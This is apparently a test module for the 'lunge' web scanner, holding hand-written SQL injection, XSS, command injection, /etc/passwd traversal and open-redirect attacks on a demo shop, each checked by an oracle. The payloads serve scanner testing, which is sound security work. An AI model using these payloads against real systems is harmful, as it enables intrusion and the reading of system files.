"""Hand-written attacks on one point of a recorded request, each with the oracle that says whether it
worked. They stand for lunge's checks in the demo's own tests: simple, but real requests to the real
shop, and each oracle demands the effect (an error, a flipped answer, a delay, executed markup,
computed shell output, a read file, an off-site Location), not a mere echo.

Each attack returns the evidence (a short string) when it worked, else None.
"""

from __future__ import annotations

import random
import re
from collections.abc import Awaitable, Callable
from urllib.parse import urlsplit

from lunge.http import Request, parse
from tests.demo.wire import Sent, send

Attack = Callable[[Request, str, tuple[Request, ...]], Awaitable[str | None]]

SQL_ERROR = "sqlite3.OperationalError"
PASSWD = re.compile(r"root:[^:\n]*:0:0:")
DELAY = 1.0
OFF_SITE = "evil.example"


def inject(request: Request, point: str, value: str, *, append: bool = True) -> Request:
    """``request`` with ``point``'s value replaced by ``value`` (appended to the recorded value)."""
    points = parse(request)
    found = points.get(point)
    assert found is not None, f"no point {point} in {request.method} {request.target}"
    return points.replace(point, found.value + value if append else value)


# ---------------------------------------------------------------------- SQL injection
async def sqli_error(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    base = await send(request)
    for suffix in ("'", "\"'"):
        hit = await send(inject(request, point, suffix))
        if SQL_ERROR in hit.text and SQL_ERROR not in base.text:
            return f"{suffix!r} -> {SQL_ERROR}"
    return None


BOOLEAN_PAIRS = (("' AND '1'='1", "' AND '1'='2"), (" AND 1=1", " AND 1=2"), ("' OR '1'='1", "' OR '1'='2"))


async def sqli_boolean(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    base, again = await send(request), await send(request)
    if not base.same_as(again):
        return None  # an unstable answer: no differential can be read from it
    for true, false in BOOLEAN_PAIRS:
        yes, no = await send(inject(request, point, true)), await send(inject(request, point, false))
        if yes.same_as(base) and not no.same_as(base):
            return f"{true!r} answers as the original, {false!r} does not"
    return None


TIME_PAYLOADS = ("'||sleep({d})||'", " AND sleep({d})=0", "' AND sleep({d})=0 AND '1'='1")


async def sqli_time(request: Request, point: str, sinks: tuple[Request, ...] = (), *,
                    delay: float = DELAY) -> str | None:
    """Delayed twice, and not with a zero delay."""
    for template in TIME_PAYLOADS:
        slow = await send(inject(request, point, template.format(d=delay)))
        if slow.elapsed < 0.9 * delay:
            continue
        control = await send(inject(request, point, template.format(d=0)))
        again = await send(inject(request, point, template.format(d=delay)))
        if control.elapsed < 0.5 * delay and again.elapsed >= 0.9 * delay:
            return f"{template!r}: {slow.elapsed:.2f}s and {again.elapsed:.2f}s, control {control.elapsed:.2f}s"
    return None


# ---------------------------------------------------------------------- XSS
def _markup(number: int) -> str:
    return f"<svg onload=alert({number})>"


def _xss_payload(number: int) -> str:
    # Closes a single- or double-quoted attribute or script string, and the script element.
    return "'\"></script>" + _markup(number)


def _executes(sent: Sent, number: int) -> bool:
    return sent.html and _markup(number) in sent.text


async def xss_reflected(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    number = random.randrange(10**6, 10**7)
    hit = await send(inject(request, point, _xss_payload(number)))
    return f"{_markup(number)} in the HTML answer" if _executes(hit, number) else None


async def xss_stored(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    number = random.randrange(10**6, 10**7)
    await send(inject(request, point, _xss_payload(number)))
    for sink in sinks:
        if _executes(await send(sink), number):
            return f"{_markup(number)} in {sink.target}"
    return None


# ---------------------------------------------------------------------- the rest
async def cmdi(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    a, b = random.randrange(1000, 9999), random.randrange(1000, 9999)
    for separator in (";", "|", "&&", "\n"):
        hit = await send(inject(request, point, f"{separator}echo lng$(({a}+{b}))end"))
        if f"lng{a + b}end" in hit.text:
            return f"{separator!r}: the shell computed {a}+{b}"
    return None


async def traversal(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    base = await send(request)
    for path in ("../../../../../../../../etc/passwd", "/etc/passwd"):
        hit = await send(inject(request, point, path, append=False))
        if PASSWD.search(hit.text) and not PASSWD.search(base.text):
            return f"{path} read"
    return None


async def redirect(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    for target in (f"//{OFF_SITE}/", f"https://{OFF_SITE}/", f"/\\{OFF_SITE}/"):
        hit = await send(inject(request, point, target, append=False))
        location = hit.response.headers.get("location") or ""
        if 300 <= hit.status < 400 and urlsplit(location.replace("\\", "/")).hostname == OFF_SITE:
            return f"{target} -> Location: {location}"
    return None


BY_CHECK: dict[str, tuple[Attack, ...]] = {
    "sqli": (sqli_error, sqli_boolean, sqli_time),
    "xss-reflected": (xss_reflected,),
    "xss-stored": (xss_stored,),
    "cmdi": (cmdi,),
    "path-traversal": (traversal,),
    "open-redirect": (redirect,),
}
SQLI_BY_TECHNIQUE: dict[str, Attack] = {"error": sqli_error, "boolean": sqli_boolean, "time": sqli_time}


from tests.demo import oob_attacks  # noqa: E402  (the server-side request checks' attacks live there)

BY_CHECK.update(oob_attacks.BY_CHECK)
